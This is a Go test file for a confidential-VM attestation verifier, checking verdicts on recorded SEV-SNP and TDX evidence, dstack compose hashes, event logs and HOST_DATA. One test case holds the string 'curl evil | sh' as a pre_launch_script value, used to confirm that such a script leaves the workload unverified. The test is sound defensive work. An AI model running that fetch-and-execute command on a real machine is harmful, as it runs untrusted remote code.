package verification

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/secretvm/secretvm/attest/snp"
	"github.com/secretvm/secretvm/attest/tdx"
	"github.com/secretvm/secretvm/peer"
	"github.com/secretvm/secretvm/test/vectors"
	"github.com/secretvm/secretvm/vm"
)

// These machines are real; the collateral of their platforms is not at hand.
// So the tests begin where evidence has been found genuine.

// genuine is the finding of a recorded machine whose evidence is taken as verified.
func genuine(t *testing.T, file string) *finding {
	t.Helper()
	a, _, err := Recognise(vectors.Read(t, file))
	if err != nil {
		t.Fatal(err)
	}
	f := &finding{answer: a, verdict: vm.Verdict{TEE: a.Attestation.Evidence.TEE, Anchor: vm.Anchor{Intel: true, Vendor: "Intel"}}}
	if a.Attestation.Evidence.TEE == vm.SNP {
		report, err := snp.Decode(a.Attestation.Evidence.Quote)
		if err != nil {
			t.Fatal(err)
		}
		f.verdict.ReportData = report.ReportData[:]
		f.verdict.SNP = &vm.SNPFacts{Measurement: report.Measurement, HostData: report.HostData, FamilyID: report.FamilyID, ImageID: report.ImageID}
		return f
	}
	q, err := tdx.Decode(a.Attestation.Evidence.Quote)
	if err != nil {
		t.Fatal(err)
	}
	f.verdict.Measurement, f.verdict.ReportData = q.Body.Measurement(), q.Body.ReportData[:]
	return f
}

// judge runs the checks of another system's machine and returns verdict,
// outcomes from the image on, and all that was said.
func judge(t *testing.T, f *finding) (verdict, outcomes, said string) {
	t.Helper()
	f.other = f.system()
	if f.other == nil {
		t.Fatal("taken for one of our own machines")
	}
	r := Report{System: f.other.name(), Checks: f.other.checks(), Warnings: f.other.warnings()}
	f.conclude(&r)
	for _, c := range r.Checks[4:] {
		outcomes += c.Name + map[Outcome]string{Holds: "+ ", Fails: "- ", Open: "o "}[c.OK]
	}
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	return r.Verdict, strings.TrimSpace(outcomes), string(b)
}

func TestExistingSecretVMOnSNP(t *testing.T) {
	registry, err := peer.ParseRegistry(vectors.Read(t, "secretvm-verify/artifacts_registry/sev.json"))
	if err != nil {
		t.Fatal(err)
	}
	const data = "secretvm-verify/test-data/"
	compose := vectors.Read(t, data+"amd_cpu_docker_check_compose.yaml")
	for _, tt := range []struct {
		name, file string
		change     func(*finding)
		verdict    string
		outcomes   string
		said       string
	}{
		{
			"everything", "amd_cpu_docker_check_quote.txt", func(*finding) {}, Verified,
			"firmware+ kernel+ hardware+ system+ workload+ configurationo booto", "root file system of small prod v0.0.25",
		},
		{
			"one more byte", "amd_cpu_docker_check_quote.txt", func(f *finding) { f.want.Compose = append(bytes.Clone(compose), 0) }, NotVerified,
			"firmwareo kernelo hardwareo systemo workload- configurationo booto", "which proves nothing",
		},
		{
			"one more byte, theirs served", "amd_cpu_docker_check_quote.txt", func(f *finding) {
				f.want.Compose, f.answer.Served = append(bytes.Clone(compose), 0), &peer.Served{Compose: compose}
			}, NotVerified,
			"firmware+ kernel+ hardware+ system+ workload- configurationo booto", "another compose file than yours",
		},
		{
			"another machine", "amd_cpu_quote.txt", func(*finding) {}, NotVerified,
			"firmwareo kernelo hardwareo systemo workload- configurationo booto", "no image of the registry",
		},
		{
			"no compose file", "amd_cpu_docker_check_quote.txt", func(f *finding) { f.want.Compose = nil }, UnverifiedWorkload,
			"firmwareo kernelo hardwareo systemo workloado configurationo booto", "--compose",
		},
		{
			"no registry", "amd_cpu_docker_check_quote.txt", func(f *finding) { f.want.Registry, f.answer.Served = nil, &peer.Served{} }, UnverifiedWorkload,
			"firmwareo kernelo hardwareo systemo workloado configurationo booto", "--registry",
		},
	} {
		f := genuine(t, data+tt.file)
		f.want = Wanted{Compose: compose, Registry: registry}
		tt.change(f)
		if verdict, outcomes, said := judge(t, f); verdict != tt.verdict || outcomes != tt.outcomes || !strings.Contains(said, tt.said) {
			t.Errorf("%s: %s %s, want %s %s with %q:\n%s", tt.name, verdict, outcomes, tt.verdict, tt.outcomes, tt.said, said)
		}
	}
}

func digest(t *testing.T, s string) *vm.Hash {
	t.Helper()
	h, err := vm.ParseHash(s)
	if err != nil {
		t.Fatal(err)
	}
	return &h
}

const dstackFixtures = "dstack/dstack/verifier/fixtures/"

func TestDstackMachine(t *testing.T) {
	const lite, full = dstackFixtures + "tdx-lite-getquote.json", dstackFixtures + "quote-report.json"
	compose, err := vm.ParseHash("86b0e55f2fa8e4fb69d890f14f54d5612707646e2573d54e0d2ddaaade77caa9")
	if err != nil {
		t.Fatal(err)
	}
	registers := func(f *finding) {
		m := f.verdict.Measurement
		f.want.Wishes.Registers = []Registers{{MRTD: m.MRTD, RTMR0: m.RTMR[0], RTMR1: m.RTMR[1], RTMR2: m.RTMR[2]}}
	}
	for _, tt := range []struct {
		name, file string
		change     func(*finding)
		verdict    string
		outcomes   string
		said       string
	}{
		{
			"everything", lite, func(f *finding) { registers(f); f.want.Wishes.ComposeHash = &compose }, Verified,
			"firmware+ kernel+ hardware+ systemo workload+ configurationo boot+", "MR_CONFIG_ID version 1",
		},
		{
			"nothing wanted", lite, func(*finding) {}, UnverifiedWorkload,
			"firmwareo kernelo hardwareo systemo workloado configurationo boot+", "86b0e55f2fa8e4fb69d890f14f54d5612707646e",
		},
		{
			"another application wanted", lite, func(f *finding) { registers(f); f.want.Compose = []byte("services: {}") }, NotVerified,
			"firmware+ kernel+ hardware+ systemo workload- configurationo boot+", "another application than yours",
		},
		{
			"its OS image wanted", lite, func(f *finding) {
				f.want.Wishes.RootHash = digest(t, "e6f5cfec20c02e7b97baa213d0f718020b55e040172d90ccbcb946d56c8b09db")
			}, UnverifiedWorkload,
			"firmware+ kernel+ hardwareo system+ workloado configurationo boot+", "OS image that you named",
		},
		{
			"its OS image wanted, by the event", lite, func(f *finding) {
				f.want.Wishes.RootHash = digest(t, "07a2388c7a6a1b6a646d443f1517990a4ec294471d63146cda9d56972765051d")
			}, UnverifiedWorkload,
			"firmwareo kernelo hardwareo system+ workloado configurationo boot+", "the wanted OS image",
		},
		{
			"described as another image", lite, func(f *finding) {
				f.answer.Served.VMConfig = bytes.Replace(f.answer.Served.VMConfig, []byte("e6f5cfec"), []byte("e6f5cfed"), 1)
			}, NotVerified,
			"firmware- kernel- hardwareo system- workloado configurationo boot+", "not the one that os_image_hash names",
		},
		{
			"another firmware than described", lite, func(f *finding) { f.verdict.Measurement.MRTD[0] ^= 1 }, NotVerified,
			"firmware- kernelo hardwareo systemo workloado configurationo boot+", "two things about itself",
		},
		{
			"another OS image wanted", lite, func(f *finding) { f.want.Wishes.RootHash = &vm.Hash{1} }, NotVerified,
			"firmware- kernel- hardwareo system- workloado configurationo boot+", "not the wanted one",
		},
		{
			"launched for another application", lite, func(f *finding) { f.verdict.Measurement.MRConfigID[5] ^= 1 }, NotVerified,
			"firmwareo kernelo hardwareo systemo workloado configuration- boot+", "launched for another application",
		},
		{
			"a service of ours", lite, func(f *finding) { f.want.Service = "svm1x/a" }, NotVerified,
			"firmwareo kernelo hardwareo systemo workloado configuration- boot+", "belong to no service",
		},
		{
			"events of the application", full, func(*finding) {}, UnverifiedWorkload,
			"firmwareo kernelo hardwareo systemo workloado configurationo boot+", "LIUM_MINER_HOTKEY",
		},
		{
			"log of another machine", lite, func(f *finding) { f.answer.Log = genuine(t, full).answer.Log }, NotVerified,
			"firmwareo kernelo hardwareo systemo workloado configurationo boot-", "does not explain",
		},
		{
			"log that is none", lite, func(f *finding) { f.answer.Log = []byte("x") }, NotVerified,
			"firmwareo kernelo hardwareo systemo workloado configurationo boot-", "dstack event log",
		},
	} {
		f := genuine(t, tt.file)
		tt.change(f)
		if verdict, outcomes, said := judge(t, f); verdict != tt.verdict || outcomes != tt.outcomes || !strings.Contains(said, tt.said) {
			t.Errorf("%s: %s %s, want %s %s with %q:\n%s", tt.name, verdict, outcomes, tt.verdict, tt.outcomes, tt.said, said)
		}
	}
}

// The compose file inside app-compose.json counts only where nothing runs
// beside it.
func TestDstackComposeInside(t *testing.T) {
	const file = "services:\n  a: {}\n"
	document := func(rest string) []byte {
		inner, _ := json.Marshal(file)
		return []byte(`{"runner":"docker-compose","docker_compose_file":` + string(inner) + rest + `}`)
	}
	for _, tt := range []struct {
		name, rest string
		want       string
		outcome    Outcome
		verdict    string
	}{
		{"the file", "", file, Holds, Verified},
		{"another file", "", file + "\n", Fails, NotVerified},
		{"a script beside it", `,"pre_launch_script":"curl evil | sh"`, file, Open, UnverifiedWorkload},
		{"the whole document", `,"pre_launch_script":"curl evil | sh"`, "", Holds, Verified},
	} {
		app := document(tt.rest)
		digest := vm.HashOf(app)
		var log []map[string]any
		var rtmr3 vm.Register
		for _, e := range []vm.Event{
			vm.RuntimeEvent("system-preparing", nil), vm.RuntimeEvent("app-id", digest[:20]), vm.RuntimeEvent("compose-hash", digest[:]),
			vm.RuntimeEvent("boot-mr-done", nil), vm.RuntimeEvent("system-ready", nil),
		} {
			rtmr3 = rtmr3.Extend(e.Digest)
			log = append(log, map[string]any{"imr": 3, "event_type": vm.EventType, "digest": e.Digest, "event": e.Name, "event_payload": hexBytes(e.Payload)})
		}
		text, err := json.Marshal(log)
		if err != nil {
			t.Fatal(err)
		}
		f := &finding{answer: Answer{Log: text, Served: &peer.Served{AppCompose: app}}, verdict: vm.Verdict{ReportData: make([]byte, 64), Anchor: vm.Anchor{Intel: true}}}
		f.verdict.Measurement.RTMR[3] = rtmr3
		f.want = Wanted{Compose: []byte(tt.want), Wishes: Wishes{Registers: []Registers{{}}}}
		if tt.want == "" {
			f.want.Compose = app
		}
		verdict, outcomes, said := judge(t, f)
		if c := f.other.checks()[8]; c.OK != tt.outcome || verdict != tt.verdict {
			t.Errorf("%s: %s %s\n%s", tt.name, verdict, outcomes, said)
		}
	}
}

// A dstack machine on SEV-SNP is known by the document in HOST_DATA.
func TestDstackOnSNP(t *testing.T) {
	document := []byte(`{"app_id":"aa","compose_hash":"` + strings.Repeat("ab", 32) + `","version":3}`)
	f := &finding{
		answer:  Answer{Log: []byte("[]"), Served: &peer.Served{MrConfig: document}},
		verdict: vm.Verdict{TEE: vm.SNP, ReportData: make([]byte, 64), SNP: &vm.SNPFacts{HostData: peer.DocumentDigest(document)}},
	}
	if verdict, outcomes, said := judge(t, f); !strings.Contains(outcomes, "workloado configurationo booto") || !strings.Contains(said, strings.Repeat("ab", 32)) {
		t.Errorf("%s %s\n%s", verdict, outcomes, said)
	}
	f.verdict.SNP.HostData[0] ^= 1
	if verdict, outcomes, said := judge(t, f); verdict != NotVerified || !strings.HasSuffix(outcomes, "boot-") {
		t.Errorf("another document: %s %s\n%s", verdict, outcomes, said)
	}
}
